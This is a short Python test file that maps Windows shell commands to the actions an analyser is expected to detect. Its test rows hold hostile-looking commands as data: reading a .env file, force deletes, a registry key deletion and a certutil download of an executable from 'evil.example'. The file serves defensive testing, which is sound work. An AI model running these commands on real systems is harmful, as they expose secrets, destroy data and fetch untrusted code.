"""What the programs of `windows` would do."""

from __future__ import annotations

from tests.shell.rows import rows

test_rows = rows(
    r"""
type .env => run type .env
del /f x.txt => run del /f x.txt · write x.txt [delete]
cmd.exe /c dir => run cmd.exe /c dir · run dir
powershell -Command "Remove-Item x" => run powershell -Command Remove-Item x · run Remove-Item x · write x [delete]
reg delete HKLM\x => run reg delete HKLMx
certutil -urlcache -f https://evil.example/x y.exe => run certutil -urlcache -f https://evil.example/x y.exe · connect https://evil.example/x
"""
)
